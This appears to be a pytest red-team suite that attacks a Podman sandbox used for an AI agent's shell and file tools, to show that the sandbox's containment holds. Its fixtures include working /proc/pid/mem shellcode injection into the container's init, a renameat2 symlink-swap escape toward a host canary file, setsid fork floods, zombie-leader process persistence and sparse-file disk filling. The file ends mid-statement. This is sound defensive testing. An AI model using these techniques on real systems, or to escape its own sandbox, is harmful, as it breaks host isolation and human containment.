"""Red-team suite for the Podman sandbox (issue 13), black box, through the public API only.

Every attack runs in a child Python process (``haversack.compose`` + ``ToolExecutor``, its own
``TMPDIR`` so the workspaces, snapshot storage and Podman service of the attack are counted
and removed with it) under a hard timeout, so a hang or a deadlock of the code under test
fails the test instead of hanging the suite. Each attack returns what an attacker cares
about: a host canary (a root-only 0600 file in a root-only directory outside the workspace)
read, written or created in; a process of a call alive after the call; the timeout ignored;
a rollback that is not byte-exact; a session that stops working; host disk filled.
"""

from __future__ import annotations

import contextlib
import json
import os
import queue
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytestmark = pytest.mark.podman

_RUNNER = r"""
import faulthandler, importlib.util, json, sys
faulthandler.dump_traceback_later(float(sys.argv[4]), exit=False)  # where a hang is, on stderr
spec = importlib.util.spec_from_file_location("hvrt_attack", sys.argv[1])
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
out = getattr(mod, sys.argv[2])(**json.loads(sys.argv[3]))
print("HVRT-RESULT " + json.dumps(out), flush=True)
"""


# --------------------------------------------------------------------------- test side


def _require_podman() -> None:
    if os.environ.get("HAVERSACK_SKIP_PODMAN") == "1" and os.environ.get("CI") != "true":
        pytest.skip("HAVERSACK_SKIP_PODMAN=1: Podman tests disabled by the environment")


@pytest.fixture
def canary() -> Iterator[dict[str, str]]:
    """A root-only host directory with a 0600 secret, outside every workspace."""
    folder = Path(tempfile.mkdtemp(prefix="hvrt-canary-", dir="/tmp"))
    os.chmod(folder, 0o700)
    secret = "CANARY-" + os.urandom(12).hex()
    path = folder / "secret.txt"
    path.write_text(secret + "\n")
    os.chmod(path, 0o600)
    yield {"dir": str(folder), "secret": secret}
    shutil.rmtree(folder, ignore_errors=True)


def _remove_containers_of(pid: int, scratch: Path) -> None:
    """Remove the containers a killed attack process created (by its own pid label)."""
    confs = list(scratch.glob("haversack-podman-*/containers.conf"))
    env = dict(os.environ)
    if confs:
        env["CONTAINERS_CONF"] = str(confs[0])
    try:
        ids = subprocess.run(
            ["podman", "ps", "-aq", "--filter", f"label=haversack.pid={pid}"],
            capture_output=True,
            text=True,
            timeout=60,
            env=env,
        ).stdout.split()
        if ids:
            subprocess.run(["podman", "rm", "-f", "-t", "0", *ids], timeout=120, env=env)
    except (OSError, subprocess.SubprocessError):
        pass


def run_attack(func: str, scratch: Path, limit: float, **kwargs: Any) -> dict[str, Any]:
    """Run ``func(**kwargs)`` of this module in a child process with ``TMPDIR=scratch``."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("HAVERSACK_")}
    env.pop("XDG_RUNTIME_DIR", None)
    env["TMPDIR"] = str(scratch)
    env["HAVERSACK_NO_CACHE"] = "1"
    kwargs = {"scratch": str(scratch), **kwargs}
    started = time.monotonic()
    proc = subprocess.Popen(
        [sys.executable, "-c", _RUNNER, __file__, func, json.dumps(kwargs), str(limit - 5)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        start_new_session=True,
    )
    try:
        out, err = proc.communicate(timeout=limit)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        out, err = proc.communicate()
        _remove_containers_of(proc.pid, scratch)
        steps = [line for line in out.splitlines() if line.startswith("HVRT-STEP")]
        pytest.fail(
            f"{func} did not finish within {limit:.0f} s (hung or unbounded); last steps: "
            f"{steps[-5:]}; stderr tail: {err[-2500:]}"
        )
    elapsed = time.monotonic() - started
    results = [line for line in out.splitlines() if line.startswith("HVRT-RESULT ")]
    if not results:
        pytest.fail(f"{func} crashed (exit {proc.returncode}); stderr tail: {err[-3000:]}")
    result: dict[str, Any] = json.loads(results[-1][len("HVRT-RESULT ") :])
    result.setdefault("figures", {})["child_wall_s"] = round(elapsed, 2)
    print(f"{func} {kwargs.get('variant', '')}: figures {result['figures']}")
    return result


def assert_clean(result: dict[str, Any]) -> None:
    problems = result.get("problems", [])
    assert not problems, (
        f"{len(problems)} problem(s): {problems[:8]}; figures: {result.get('figures')}"
    )


# --------------------------------------------------------------------------- child side


class Attack:
    """One session of the composed vfs + podman prompt, and what went wrong in it."""

    def __init__(self, scratch: str, **podman: Any) -> None:
        import haversack

        self.ws_root = Path(scratch) / "ws"
        self.ws_root.mkdir(exist_ok=True)
        config = {
            "workspace_root": str(self.ws_root),
            "pids_limit": 64,
            "memory": "256m",
            "default_timeout_s": 20.0,
            "max_timeout_s": 30.0,
            **podman,
        }
        prompt = haversack.compose(
            ns="redteam", key="agent", packs=["vfs", "podman"], config={"podman": config}
        )
        self.executor = haversack.ToolExecutor(prompt.render(), session=haversack.Session())
        self.executor.__enter__()
        self.problems: list[str] = []
        self.figures: dict[str, Any] = {}
        self.closed = False

    def step(self, text: str) -> None:
        print(f"HVRT-STEP {text}", flush=True)

    def call(self, tool: str, args: dict[str, Any], *, label: str = "") -> Any:
        """Execute one call; a raised error is a problem (the model must get a result)."""
        try:
            return self.executor.execute(tool, args)
        except Exception as exc:
            self.problems.append(f"{label or tool}: execute() raised {type(exc).__name__}: {exc}")
            return None

    def sh(self, command: str, *, label: str = "", **extra: Any) -> Any:
        return self.call("shell_execute", {"command": command, **extra}, label=label or command)

    def must_ok(self, command: str, label: str) -> str:
        result = self.sh(command, label=label)
        if result is None:
            return ""
        if not result.success:
            self.problems.append(f"{label}: failed: {result.render()[:400]}")
        return str(result.render())

    def follow_up(self, label: str) -> None:
        """The session keeps working: a shell echo and a file write + read succeed."""
        out = self.sh("echo follow-up-ok", label=f"{label}: follow-up echo")
        if out is None or "follow-up-ok" not in out.render():
            text = out.render()[:300] if out is not None else "raised"
            self.problems.append(f"{label}: follow-up `echo` did not work: {text}")
        name = f"follow-{os.urandom(4).hex()}.txt"
        w = self.call("write_file", {"path": name, "content": "fine\n"}, label=f"{label}: write")
        r = self.call("read_file", {"path": name}, label=f"{label}: read")
        if w is None or r is None or not w.success or "fine" not in r.render():
            self.problems.append(f"{label}: follow-up write_file/read_file did not work")

    def processes(self) -> list[str]:
        """Processes an attack started that are still in the container.

        Only what the attacks start is counted (their scripts, their loops, zombie leaders
        with live threads, the container's init running Python), so a helper process a fixed
        sandbox may keep there is not mistaken for a leftover.
        """
        probe = (
            'echo "SELF $$"; for p in /proc/[0-9]*; do '
            'printf "PROC %s|" "${p#/proc/}"; cat $p/stat 2>/dev/null | tr "\\n" " "; '
            'printf "|"; tr "\\0" " " < $p/cmdline 2>/dev/null; echo; done'
        )
        result = self.sh(probe, label="process probe")
        if result is None or not result.success:
            self.problems.append(
                "process probe failed: " + (result.render()[:300] if result else "")
            )
            return []
        text = result.value.stdout
        me = next(line.split()[1] for line in text.splitlines() if line.startswith("SELF "))
        markers = ("zl.py", "loop.py", "r.sh", "sleep 1000", "grow.log", "while :")
        left = []
        for line in text.splitlines():
            if not line.startswith("PROC "):
                continue
            pid, stat, cmdline = [*line[5:].split("|", 2), "", ""][:3]
            fields = stat.rsplit(")", 1)[1].split() if ")" in stat else []
            if not fields or pid == me or fields[1] == me:
                continue
            if pid == "1":
                if "python" in cmdline:
                    left.append(f"pid 1 (the container's init) now runs {cmdline.strip()[:60]!r}")
                continue
            zombie_leader = fields[0] == "Z" and len(fields) > 17 and int(fields[17]) > 1
            if zombie_leader or any(m in cmdline for m in markers):
                left.append(f"pid {pid}: {stat[:80]} cmdline={cmdline.strip()[:60]!r}")
        return left

    def fingerprint(self) -> str:
        """Kind, mode, owner, size, mtime, link target and md5 of every workspace entry."""
        result = self.sh(
            "find . -mindepth 1 | sort | while IFS= read -r f; do "
            't=$(stat -c %F "$f"); '
            'case "$t" in directory) echo "$f|$t|$(stat -c %a:%u:%g "$f")";; '
            'symbolic\\ link) echo "$f|$t|$(readlink "$f")|$(stat -c %Y "$f")";; '
            'regular*) echo "$f|$t|$(stat -c %a:%u:%g:%s:%Y:%h "$f")|$(md5sum < "$f")";; '
            '*) echo "$f|$t|$(stat -c %a:%u:%g "$f")";; esac; done',
            label="fingerprint",
        )
        if result is None or not result.success:
            return "<fingerprint failed>"
        return str(result.value.stdout)

    def close(self) -> None:
        if self.closed:
            return
        self.closed = True
        try:
            self.executor.__exit__(None, None, None)
        except Exception as exc:
            self.problems.append(f"close() raised {type(exc).__name__}: {exc}")
        left = [p.name for p in self.ws_root.iterdir()] if self.ws_root.exists() else []
        if left:
            self.problems.append(f"close() left workspace directories on the host: {left}")

    def report(self) -> dict[str, Any]:
        self.close()
        return {"problems": self.problems, "figures": self.figures}


def _canary_problems(canary_dir: str, secret: str, texts: list[str]) -> list[str]:
    problems = []
    names = sorted(os.listdir(canary_dir))
    if names != ["secret.txt"]:
        problems.append(f"host canary directory changed: now holds {names}")
    path = os.path.join(canary_dir, "secret.txt")
    if os.path.exists(path):
        st = os.lstat(path)
        if Path(path).read_text() != secret + "\n":
            problems.append("host canary file was overwritten")
        if (st.st_mode & 0o7777, st.st_uid) != (0o600, 0):
            problems.append(f"host canary mode/owner changed: {oct(st.st_mode)} uid {st.st_uid}")
    else:
        problems.append("host canary file was deleted")
    hits = [t for t in texts if secret in t or secret[7:] in t]
    if hits:
        problems.append(f"canary secret appeared in {len(hits)} result text(s): {hits[0][:200]}")
    return problems


def _workspace_holds(ws_root: Path, secret: str) -> list[str]:
    """Host-side scan (no symlink followed) for the secret copied into a workspace."""
    found = []
    for folder, _dirs, files in os.walk(ws_root, followlinks=False):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.islink(path) or not os.path.isfile(path):
                    continue
                with open(path, "rb") as f:
                    if secret.encode() in f.read(1 << 20):
                        found.append(path)
            except OSError:
                pass
    return found


# A process whose main thread exits with the raw exit syscall while a second thread runs:
# /proc shows the leader as a zombie, the thread group stays alive.
_ZOMBIE_LEADER = """
import ctypes, os, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
os.chdir("/workspace")
mode = sys.argv[1]
def swap():
    while True:  # renameat2(AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE)
        libc.syscall(316, -100, b"d", -100, b"l", 2)
def grow():
    while True:
        with open("/workspace/grow.log", "a") as f:
            f.write("x")
        time.sleep(0.02)
def forker():
    while True:
        if os.fork() == 0:
            time.sleep(0.05)
            os._exit(0)
        os.wait()
        with open("/workspace/grow.log", "a") as f:
            f.write("f")
threading.Thread(target={"swap": swap, "grow": grow, "forker": forker}[mode]).start()
open("/workspace/ready-" + mode, "w").close()
libc.syscall(60, 0)
"""


# Rewrites the code of a process the sandbox keeps alive on purpose (the container's init,
# or its main ``sleep infinity``): both run as the agent's uid, so /proc/<pid>/mem is
# writable from a command. The injected code execve()s /bin/sh -c CMD in that process.
_HIJACK = r"""
import os, struct, signal, sys, time
target, CMD = sys.argv[1], sys.argv[2]
if target == "main":
    main = b"sleep\x00infinity\x00"
    procs = [p for p in os.listdir("/proc") if p.isdigit()]
    pid = next(int(p) for p in procs if open(f"/proc/{p}/cmdline", "rb").read() == main)
else:
    pid = 1
sc = open(f"/proc/{pid}/syscall").read().split()
print("syscall", sc)
pc = int(sc[-1], 16)
base = pc - 2
path, dash_c, cmdz = b"/bin/sh\0", b"-c\0", CMD.encode() + b"\0"
p_path = base + 40
p_c = p_path + len(path)
p_cmd = p_c + len(dash_c)
p_argv = (p_cmd + len(cmdz) + 7) & ~7
# nop; mov rdi, path; mov rsi, argv; xor edx, edx; mov eax, 59 (execve); syscall
code = b"\x66\x90" + b"\x48\xbf" + struct.pack("<Q", p_path)
code += b"\x48\xbe" + struct.pack("<Q", p_argv) + b"\x31\xd2\xb8\x3b\x00\x00\x00\x0f\x05"
blob = code.ljust(40, b"\x90") + path + dash_c + cmdz
blob = blob.ljust(p_argv - base, b"\0") + struct.pack("<QQQQ", p_path, p_c, p_cmd, 0)
with open(f"/proc/{pid}/mem", "r+b", buffering=0) as m:
    m.seek(base)
    m.write(blob)
if target == "main":
    os.kill(pid, signal.SIGSTOP)
    os.kill(pid, signal.SIGCONT)
else:
    if os.fork() == 0:   # an orphan reparented to pid 1: its exit wakes init
        if os.fork() == 0:
            time.sleep(0.2)
            os._exit(0)
        os._exit(0)
    os.wait()
    time.sleep(0.5)
print("injected into", pid, open(f"/proc/{pid}/cmdline","rb").read())
"""

_LOOPS = {
    "grow": "import time\nwhile True:\n    open('/workspace/grow.log', 'a').write('x')\n"
    "    time.sleep(0.02)\n",
    "swap": "import ctypes, os\nlibc = ctypes.CDLL(None)\nos.chdir('/workspace')\n"
    "while True:\n    libc.syscall(316, -100, b'd', -100, b'l', 2)\n",
}


def _hijack(a: Attack, target: str, mode: str) -> None:
    """Turn the container's ``target`` ("init" or "main") into the ``mode`` loop."""
    a.call("write_file", {"path": "hj.py", "content": _HIJACK}, label="write hj.py")
    a.call("write_file", {"path": "loop.py", "content": _LOOPS[mode]}, label="write loop.py")
    a.must_ok(
        f"python3 hj.py {target} 'exec python3 /workspace/loop.py'; echo hijacked",
        f"hijack the container's {target} process",
    )


def _start_zombie_leader(a: Attack, mode: str, launcher: str = "") -> None:
    a.call("write_file", {"path": "zl.py", "content": _ZOMBIE_LEADER}, label="write zl.py")
    a.must_ok(
        f"({launcher} python3 zl.py {mode} >/dev/null 2>&1 </dev/null &); "
        f"i=0; while [ ! -e ready-{mode} ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; "
        "sleep 0.3; echo started",
        f"start the {mode} process",
    )


SWAP_OPS = ("read_file", "write_file", "edit_file", "listings", "rm", "rollback", "close")


def attack_swapped_directory(
    scratch: str, variant: str, persist: str, canary_dir: str, secret: str, rounds: int
) -> dict[str, Any]:
    a = Attack(scratch)
    texts: list[str] = []
    a.must_ok(
        f"mkdir d && echo decoy > d/secret.txt && echo decoy > d/edit.txt && ln -s {canary_dir} l",
        "plant d and l",
    )
    if persist == "zombie leader":
        _start_zombie_leader(a, "swap")
    else:
        _hijack(a, persist.split()[-1], "swap")
    a.step(f"swapper started ({persist}); {variant} x {rounds}")
    started = time.monotonic()

    def record(result: Any) -> None:
        if result is not None:
            texts.append(str(result.render()))
            texts.append(str(result.message))

    for i in range(rounds):
        if i % 50 == 0:
            a.step(f"{variant} attempt {i}, {len(a.problems)} problems so far")
        if variant == "read_file":
            record(a.call("read_file", {"path": "d/secret.txt"}))
        elif variant == "write_file":
            record(a.call("write_file", {"path": f"d/planted-{i}.txt", "content": "pwned\n"}))
        elif variant == "edit_file":
            record(a.call("read_file", {"path": "d/secret.txt"}))
            record(
                a.call(
                    "edit_file",
                    {"path": "d/secret.txt", "old_string": secret, "new_string": "pwned"},
                )
            )
            record(
                a.call(
                    "edit_file",
                    {"path": "d/secret.txt", "old_string": "decoy", "new_string": "decoy"},
                )
            )
        elif variant == "listings":
            record(a.call("ls", {"path": "d"}))
            record(a.call("glob", {"pattern": "*", "path": "d"}))
            record(a.call("grep", {"pattern": "CANARY", "path": "d"}))
        elif variant == "rm":
            record(a.call("rm", {"path": "d/secret.txt"}))
        elif variant == "rollback":
            record(a.sh("echo changed > d/secret.txt; touch d/new.txt; exit 3"))
        elif variant == "close":
            break
    if variant == "close":
        # Removing the workspace while the swap runs must not delete through the link.
        a.close()
    a.figures[f"{variant}_attempts"] = rounds
    a.figures["attack_s"] = round(time.monotonic() - started, 2)
    a.problems.extend(_canary_problems(canary_dir, secret, texts))
    copied = _workspace_holds(a.ws_root, secret)
    if copied:
        a.problems.append(f"the host canary was copied into the workspace: {copied[:3]}")
    if variant != "close":
        left = a.processes()
        if left:
            a.problems.append(f"{len(left)} process(es) of an earlier call still alive: {left[:3]}")
    return a.report()


SWAPS = [
    ("zombie leader", "read_file", 20000),
    ("zombie leader", "write_file", 400),
    ("zombie leader", "edit_file", 300),
    ("zombie leader", "listings", 300),
    ("zombie leader", "rm", 300),
    ("zombie leader", "rollback", 25),
    ("zombie leader", "close", 1),
    ("hijacked main", "read_file", 20000),
    ("hijacked main", "write_file", 400),
    ("hijacked main", "rollback", 25),
    ("hijacked init", "write_file", 400),
    ("hijacked init", "close", 1),
]


@pytest.mark.parametrize(("persist", "variant", "rounds"), SWAPS)
def test_swapped_directory_escape(
    persist: str, variant: str, rounds: int, scratch: Path, canary: dict[str, str]
) -> None:
    """Item 1: a workspace directory swapped with a symlink to a host directory in a loop
    (renameat2 RENAME_EXCHANGE) by a process that survived its call (a zombie leader with a
    live thread, or the container's own init / main process rewritten through
    /proc/<pid>/mem); the host-side file tools, rollback and close() must never read, write
    or delete the host canary."""
    _require_podman()
    result = run_attack(
        "attack_swapped_directory",
        scratch,
        240,
        variant=variant,
        persist=persist,
        canary_dir=canary["dir"],
        secret=canary["secret"],
        rounds=rounds,
    )
    assert_clean(result)


SURVIVORS = {
    # name: (how it is started, whether a zombie-leader helper is used)
    "zombie leader + writing thread": ("zombie", "grow", ""),
    "zombie leader in a new session": ("zombie", "grow", "setsid"),
    "zombie leader whose thread forks": ("zombie", "forker", ""),
    "main process rewritten via /proc/pid/mem": ("hijack", "main", ""),
    "init rewritten via /proc/pid/mem": ("hijack", "init", ""),
    "setsid double fork": (
        "shell",
        "(setsid sh -c 'while :; do echo x >> grow.log; sleep 0.02; done' "
        ">/dev/null 2>&1 </dev/null &) ; sleep 0.3",
        "",
    ),
    "nohup, TERM and HUP ignored": (
        "shell",
        "(trap '' TERM HUP; nohup sh -c 'trap \"\" TERM HUP; while :; do echo x >> grow.log; "
        "sleep 0.02; done' >/dev/null 2>&1 </dev/null &) ; sleep 0.3",
        "",
    ),
}


def attack_survivor(scratch: str, variant: str) -> dict[str, Any]:
    a = Attack(scratch)
    kind, what, launcher = SURVIVORS[variant]
    if kind == "zombie":
        _start_zombie_leader(a, what, launcher)
    elif kind == "hijack":
        _hijack(a, what, "grow")
    else:
        a.must_ok(what + "; echo started", "start the background process")
    sizes = []
    for label in ("after its call", "after a later failed call"):
        if label == "after a later failed call":
            a.sh("exit 5", label="a failing call")
        a.sh("sleep 1", label="wait inside the sandbox")
        first = a.sh("wc -c < grow.log 2>/dev/null || echo 0", label="size 1")
        a.sh("sleep 1", label="wait inside the sandbox")
        second = a.sh("wc -c < grow.log 2>/dev/null || echo 0", label="size 2")
        pair = [
            int(r.value.stdout.strip() or 0) if r is not None and r.success else -1
            for r in (first, second)
        ]
        sizes.append(pair)
        if pair[1] > pair[0]:
            a.problems.append(
                f"{variant}: a process of an earlier call still writes to the workspace "
                f"{label} (grow.log {pair[0]} -> {pair[1]} bytes over 1 s)"
            )
    left = a.processes()
    if left:
        a.problems.append(f"{variant}: {len(left)} process(es) still alive: {left[:3]}")
    a.figures["grow_log_sizes"] = sizes
    a.follow_up(variant)
    return a.report()


@pytest.mark.parametrize("variant", list(SURVIVORS))
def test_no_process_outlives_its_call(variant: str, scratch: Path) -> None:
    """Item 2: whatever its state (zombie leader with a live thread, new session, ignored
    signals), no process started by a call is alive or writing after the call returned."""
    _require_podman()
    assert_clean(run_attack("attack_survivor", scratch, 180, variant=variant))


FLOODS = {
    "setsid sleepers": "while :; do setsid sleep 1000 >/dev/null 2>&1 & done",
    "setsid self-replicating": (
        "printf '%s\\n' 'while :; do setsid sh r.sh >/dev/null 2>&1 & done' > /tmp/r.sh; "
        "cd /tmp; sh r.sh"
    ),
    "setsid busy loops": "while :; do setsid sh -c 'while :; do :; done' >/dev/null 2>&1 & done",
}


def attack_flood(scratch: str, variant: str, timeout: float) -> dict[str, Any]:
    a = Attack(scratch, pids_limit=256, default_timeout_s=10.0, max_timeout_s=30.0)
    a.must_ok("echo warm", "warm up")
    started = time.monotonic()
    result = a.sh(FLOODS[variant], label="flood", timeout=timeout)
    took = time.monotonic() - started
    a.figures["flood_call_s"] = round(took, 2)
    a.figures["timeout_s"] = timeout
    if result is not None and result.success:
        a.problems.append("the flood call succeeded instead of timing out")
    if took > timeout + 10:
        a.problems.append(f"a {timeout} s timeout returned after {took:.1f} s")
    started = time.monotonic()
    echo = a.sh("echo after-flood", label="echo after the flood")
    a.figures["next_echo_s"] = round(time.monotonic() - started, 2)
    if echo is None or not echo.success or "after-flood" not in echo.render():
        text = echo.render()[:300] if echo is not None else "raised"
        a.problems.append(f"`echo` after the flood failed: {text}")
    if a.figures["next_echo_s"] > 15:
        a.problems.append(f"`echo` after the flood took {a.figures['next_echo_s']} s")
    left = a.processes()
    a.figures["leftover_processes"] = len(left)
    if left:
        a.problems.append(f"{len(left)} flood process(es) still alive: {left[:3]}")
    a.follow_up(variant)
    return a.report()


@pytest.mark.parametrize("variant", list(FLOODS))
def test_setsid_flood_honours_timeout(variant: str, scratch: Path) -> None:
    """Item 3: a flood of new sessions must not defeat the timeout (returns within timeout +
    10 s here; the issue's target is + 2 s) nor leave the sandbox unusable."""
    _require_podman()
    assert_clean(run_attack("attack_flood", scratch, 240, variant=variant, timeout=5.0))


PLANTS = {
    "dangling symlink": "ln -s /nonexistent-hvrt .f.txt.haversack-tmp",
    "symlink to the host canary": "ln -s {canary}/secret.txt .f.txt.haversack-tmp",
    "symlink to a workspace file": "ln -s g.txt .f.txt.haversack-tmp",
    "regular file": "echo planted > .f.txt.haversack-tmp",
    "hard link to a workspace file": "ln g.txt .f.txt.haversack-tmp",
    "directory": "mkdir .f.txt.haversack-tmp && echo in > .f.txt.haversack-tmp/x",
    "fifo": "mkfifo .f.txt.haversack-tmp",
    "in a subdirectory (symlink)": "ln -s /nonexistent-hvrt sub/.f.txt.haversack-tmp",
}


def attack_planted_temp(scratch: str, variant: str, canary_dir: str, secret: str) -> dict[str, Any]:
    a = Attack(scratch)
    plant = PLANTS[variant].format(canary=canary_dir)
    a.must_ok(
        "echo original > f.txt && echo other > g.txt && mkdir sub && echo original > sub/f.txt"
        f" && {plant}",
        "plant",
    )
    before = a.fingerprint()
    texts = []
    for attempt in range(3):
        failed = a.sh(
            "echo changed > f.txt; echo changed > sub/f.txt; echo new > h.txt; exit 4",
            label=f"failing call {attempt}",
        )
        if failed is not None:
            texts.append(str(failed.render()))
            if failed.success:
                a.problems.append("the failing call succeeded")
        after = a.fingerprint()
        if after != before:
            diff = sorted(set(after.splitlines()) ^ set(before.splitlines()))
            a.problems.append(f"attempt {attempt}: rollback not exact: {diff[:6]}")
            break
    a.problems.extend(_canary_problems(canary_dir, secret, texts))
    a.follow_up(variant)
    return a.report()


@pytest.mark.parametrize("variant", list(PLANTS))
def test_planted_name_cannot_break_rollback(
    variant: str, scratch: Path, canary: dict[str, str]
) -> None:
    """Item 4: an entry planted under the restore's temp name (``.<name>.haversack-tmp``)
    must neither make rollback raise nor leave the failed call's changes, nor be written
    through."""
    _require_podman()
    result = run_attack(
        "attack_planted_temp",
        scratch,
        180,
        variant=variant,
        canary_dir=canary["dir"],
        secret=canary["secret"],
    )
    assert_clean(result)


DEEP = {
    "1,100 levels (mkdir -p), shell rm": (1100, "shell"),
    "1,100 levels (mkdir -p), rm tool": (1100, "tool"),
    "3,000 levels (cd loop), shell rm": (3000, "shell"),
}


def attack_deep_tree(scratch: str, variant: str) -> dict[str, Any]:
    a = Attack(scratch)
    depth, how = DEEP[variant]
    if depth <= 1500:
        make = "mkdir -p " + "/".join(["t"] * depth)
    else:
        make = f"i=0; while [ $i -lt {depth} ]; do mkdir t && cd t || exit 9; i=$((i+1)); done"
    made = a.sh(make + "; echo made", label="make the deep tree", timeout=25)
    texts = [str(made.render()) if made is not None else ""]
    w = a.call("write_file", {"path": "after-deep.txt", "content": "x\n"}, label="write after")
    texts.append(str(w.render()) if w is not None else "")
    if how == "shell":
        removed = a.sh("rm -rf t; echo removed", label="rm -rf the tree", timeout=25)
    else:
        removed = a.call("rm", {"path": "t"}, label="rm tool on the tree")
    texts.append(str(removed.render()) if removed is not None else "")
    if removed is not None and not removed.success:
        a.problems.append(f"the model could not delete the deep tree: {removed.render()[:300]}")
    for text in texts:
        if "Recursion" in text or "Traceback" in text:
            a.problems.append(f"an internal error reached the model: {text[:300]}")
    a.follow_up(variant)
    # Leave a deep tree in place for close(): it must still remove the workspace.
    a.sh(make + "; echo made", label="deep tree again", timeout=25)
    return a.report()


@pytest.mark.parametrize("variant", list(DEEP))
def test_deep_tree_does_not_brick_the_session(variant: str, scratch: Path) -> None:
    """Item 5: a deeply nested tree gets a clear refusal or works; the model can always
    delete it, the session keeps working and close() removes the workspace."""
    _require_podman()
    assert_clean(run_attack("attack_deep_tree", scratch, 240, variant=variant))


def _disk_used(root: Path) -> int:
    """Bytes of disk actually allocated (st_blocks) under ``root``, links not followed."""
    total = 0
    for folder, dirs, files in os.walk(root, followlinks=False):
        for name in dirs + files:
            with contextlib.suppress(OSError):
                total += os.lstat(os.path.join(folder, name)).st_blocks * 512
    return total


SPARSE = {
    # apparent sizes kept small enough that the unfixed code cannot hurt the machine
    "one 128 MiB sparse file": "truncate -s 128M sparse.bin",
    "four 40 MiB sparse files": "for i in 1 2 3 4; do truncate -s 40M s$i.bin; done",
    "a hole after one real byte": "echo x > h.bin && truncate -s 120M h.bin",
}


def attack_sparse(scratch: str, variant: str) -> dict[str, Any]:
    a = Attack(scratch)
    a.must_ok("echo warm", "warm up")
    root = Path(scratch)
    base = _disk_used(root)
    made = a.sh(SPARSE[variant] + "; echo made", label="make sparse files")
    a.call("write_file", {"path": "next.txt", "content": "x\n"}, label="next mutating call")
    a.sh("echo y > next.txt; exit 6", label="a failing call (rollback)")
    a.sh("touch z.txt", label="another mutating call")
    grown = _disk_used(root) - base
    a.figures["host_disk_growth_mib"] = round(grown / 2**20, 1)
    a.figures["sparse_call_ok"] = bool(made is not None and made.success)
    if grown > 32 * 2**20:
        a.problems.append(
            f"sparse files of little real data cost {grown / 2**20:.0f} MiB of host disk "
            "(snapshots or restores do not preserve holes / no quota)"
        )
    a.follow_up(variant)
    return a.report()


@pytest.mark.parametrize("variant", list(SPARSE))
def test_sparse_files_do_not_fill_host_disk(variant: str, scratch: Path) -> None:
    """Item 6: host disk use (st_blocks under the attack's TMPDIR: workspace, snapshot
    storage, runtime files) grows with real data only, never with apparent sizes."""
    _require_podman()
    assert_clean(run_attack("attack_sparse", scratch, 240, variant=variant))


SPECIALS = {
    "fifo": ("mkfifo p", ["p"]),
    "fifo in a subdirectory": ("mkdir s && mkfifo s/p", ["s/p"]),
    "unix socket": (
        "python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('sock')\"",
        ["sock"],
    ),
    "fifo and socket": (
        "mkfifo p && python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('sock')\"",
        ["p", "sock"],
    ),
}


def attack_specials(scratch: str, variant: str) -> dict[str, Any]:
    a = Attack(scratch)
    make, names = SPECIALS[variant]
    a.must_ok(make + " && echo keep > k.txt", "make special files")
    before = a.fingerprint()
    for failing in ("touch new.txt; exit 7", f"rm -f {' '.join(names)}; exit 7"):
        a.sh(failing, label=f"failing call: {failing}")
        after = a.fingerprint()
        if after != before:
            diff = sorted(set(after.splitlines()) ^ set(before.splitlines()))
            a.problems.append(f"rollback of `{failing}` not exact: {diff[:6]}")
    # A special file made by the failed call itself must go.
    before = a.fingerprint()
    a.sh("mkfifo q; exit 7", label="failing mkfifo")
    if a.fingerprint() != before:
        a.problems.append("a FIFO made by a failed call survived its rollback")
    a.follow_up(variant)
    return a.report()


@pytest.mark.parametrize("variant", list(SPECIALS))
def test_rollback_keeps_special_files(variant: str, scratch: Path) -> None:
    """Item 7: FIFOs and sockets made by earlier successful calls survive a later failed
    call (rollback exact, byte for byte and kind for kind)."""
    _require_podman()
    assert_clean(run_attack("attack_specials", scratch, 180, variant=variant))


def attack_gc_rollbacks(scratch: str, variant: str, calls: int) -> dict[str, Any]:
    import gc

    a = Attack(scratch)
    a.must_ok("mkdir -p a b && echo 1 > a/x && echo 2 > b/y && echo f > f.txt", "seed")
    if variant == "after restores that raised":
        # Restores of f.txt then fail (ELOOP on the planted temp name): the raised errors'
        # tracebacks keep snapshots in reference cycles that only the collector frees.
        a.must_ok("ln -s /nonexistent-hvrt .f.txt.haversack-tmp", "plant")
    gc.set_threshold(5, 1, 1)  # collect very often, so finalizers run inside restores
    started = time.monotonic()
    for i in range(calls):
        if variant == "after restores that raised":
            a.sh(f"echo x > f.txt; touch extra{i}; exit 1", label="failing shell call")
        a.call("write_file", {"path": "a/x", "content": "dup"}, label="failing write")
        a.call("edit_file", {"path": "b/y", "old_string": "nope", "new_string": "z"})
        if i % 10 == 0:
            a.step(f"{i} rounds of failing calls")
    a.figures["rounds"] = calls
    a.figures["seconds"] = round(time.monotonic() - started, 2)
    if variant == "after restores that raised":
        # Those raises are item 4's finding; this test is about returning at all.
        a.problems = [p for p in a.problems if "PromptEvaluationError" not in p]
    a.follow_up(variant)
    return a.report()


@pytest.mark.parametrize(
    ("variant", "calls"), [("plain failing calls", 400), ("after restores that raised", 60)]
)
def test_rollbacks_under_aggressive_gc_do_not_deadlock(
    variant: str, calls: int, scratch: Path
) -> None:
    """Item 8: many failed (rolled back) calls with the garbage collector running very often
    must all return (a finalizer taking the snapshotter's lock inside restore deadlocks)."""
    _require_podman()
    assert_clean(run_attack("attack_gc_rollbacks", scratch, 120, variant=variant, calls=calls))


def attack_cost(scratch: str, variant: str, files: int) -> dict[str, Any]:
    a = Attack(scratch)

    def median_true() -> float:
        times = []
        for _ in range(7):
            t = time.monotonic()
            a.sh("true", label="true")
            times.append(time.monotonic() - t)
        return sorted(times)[3]

    empty = median_true()
    for chunk in range(files // 5000):  # 5,000 per call: one call stays far from its timeout
        a.must_ok(
            f"for d in $(seq 5); do mkdir c{chunk}d$d && cd c{chunk}d$d && "
            "seq 1000 | xargs touch && cd ..; done",
            f"make files ({chunk})",
        )
    full = median_true()
    a.figures.update(
        files=files,
        empty_ms=round(empty * 1000),
        full_ms=round(full * 1000),
        ratio=round(full / empty, 2),
    )
    if full > 3 * empty:
        a.problems.append(
